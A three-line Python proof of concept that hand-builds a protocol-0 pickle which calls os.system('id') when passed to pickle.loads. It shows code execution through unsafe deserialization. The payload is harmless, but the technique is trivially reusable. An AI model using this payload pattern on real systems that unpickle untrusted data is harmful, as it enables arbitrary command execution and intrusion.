# protocol-0 opcodes: GLOBAL os.system, call with ("id",)
import pickle
pickle.loads(b"cos\nsystem\n(S'id'\ntR.")
